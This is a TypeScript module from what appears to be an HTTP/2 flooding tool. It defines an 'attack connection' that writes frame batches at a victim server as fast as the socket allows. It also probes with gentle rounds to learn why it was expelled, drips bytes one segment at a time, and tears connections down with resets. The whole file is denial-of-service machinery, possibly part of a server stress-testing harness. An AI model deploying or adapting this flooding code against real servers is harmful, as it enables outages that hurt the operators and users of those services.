/** One connection of an attacker: it writes what it is told, as fast as the victim's system takes it, and counts the answers. */
import type { Socket } from "node:net";
import { Flag, FrameType, frame, PREFACE, SETTINGS_ACK } from "../frames/frame.js";
import { type BatchTemplate, FrameBatch } from "../frames/frame-batch.js";
import { FrameScanner, type OnFrame } from "../frames/frame-scanner.js";
import type { Tally } from "./tally.js";

export interface ConnectionHabits {
  /** What it is on the connection: the victim is the other. */
  readonly side: "client" | "server";
  /** Whether it reads at all what the victim sends. */
  readonly reads: boolean;
  /** Whether it acknowledges later SETTINGS and PING frames; not in the middle of a header block. */
  readonly acknowledges: boolean;
}

/**
 * Who floods is seldom told why he is thrown out: the end of the connection overtakes the GOAWAY. So the first connection of an
 * attack begins with some rounds between which it listens.
 */
const GENTLE_ROUNDS = 20;
const GENTLE_PAUSE_MS = 5;

export class AttackConnection {
  /** Told of each frame of the victim. */
  onFrame: OnFrame = () => {};
  readonly #socket: Socket;
  readonly #tally: Tally;
  readonly #habits: ConnectionHabits;
  readonly #isFirst: boolean;
  #settingsSeen = false;
  /** We have ended it ourselves. */
  #isLeft = false;

  constructor(socket: Socket, tally: Tally, habits: ConnectionHabits) {
    this.#socket = socket;
    this.#tally = tally;
    this.#habits = habits;
    this.#isFirst = tally.opened === 0;
    tally.opened += 1;
    socket.setNoDelay(true);
    socket.on("close", () => {
      tally.bytesSent += socket.bytesWritten;
      if (!this.#isLeft) tally.lost += 1;
    });
    if (!habits.reads) return;
    const skipBytes = habits.side === "server" ? PREFACE.length : 0;
    const scanner = new FrameScanner(skipBytes, (type, flags, streamId, payload) =>
      this.#take(type, flags, streamId, payload),
    );
    socket.on("data", (chunk: Buffer) => scanner.push(chunk));
  }

  get isOpen(): boolean {
    return !this.#isLeft && !this.#socket.destroyed && this.#socket.writable;
  }

  /** Writes octets that are `attempts` attempts. `then` is called when the system has taken them. */
  write(octets: Buffer, attempts = 0, then?: () => void): void {
    if (!this.isOpen) return;
    this.#tally.attempts += attempts;
    this.#socket.write(octets, (error) => {
      if (!error) then?.();
    });
  }

  /** Writes round after round, until the connection is gone. */
  flood(template: BatchTemplate): void {
    const batch = new FrameBatch(template);
    let gentleRounds = this.#isFirst ? GENTLE_ROUNDS : 0;
    const round = (): void =>
      this.write(batch.next(), batch.attempts, () => {
        if (gentleRounds-- > 0) setTimeout(round, GENTLE_PAUSE_MS);
        // By way of the event loop, so that answers are read even when the system takes everything at once.
        else setImmediate(round);
      });
    round();
  }

  /** Writes octets one at a time, each in a segment of its own; each is an attempt. `then` is called after the last. */
  drip(octets: Buffer, then: () => void): void {
    let at = 0;
    const next = (): void => {
      if (at === octets.length) {
        then();
        return;
      }
      at += 1;
      this.write(octets.subarray(at - 1, at), 1, () => setImmediate(next));
    };
    next();
  }

  /** Leaves: in order (FIN), or as if the process had died (RST). */
  leave(how: "close" | "reset"): void {
    this.#isLeft = true;
    if (how === "reset") this.#socket.resetAndDestroy();
    else this.#socket.destroy();
  }

  #take(type: number, flags: number, streamId: number, payload: Buffer): void {
    this.#tally.countFrame(type, flags, payload);
    if (this.#habits.acknowledges && (flags & Flag.ACK) === 0) this.#acknowledge(type, payload);
    this.onFrame(type, flags, streamId, payload);
    // Thrown out: there is no need to wait for the victim to close.
    if (type === FrameType.GOAWAY && payload.readUInt32BE(4) !== 0) this.#socket.destroy();
  }

  /** The first SETTINGS are acknowledged in advance, by the greeting. */
  #acknowledge(type: number, payload: Buffer): void {
    if (type === FrameType.PING) this.write(frame(FrameType.PING, Flag.ACK, 0, payload));
    if (type !== FrameType.SETTINGS) return;
    if (this.#settingsSeen) this.write(SETTINGS_ACK);
    this.#settingsSeen = true;
  }
}
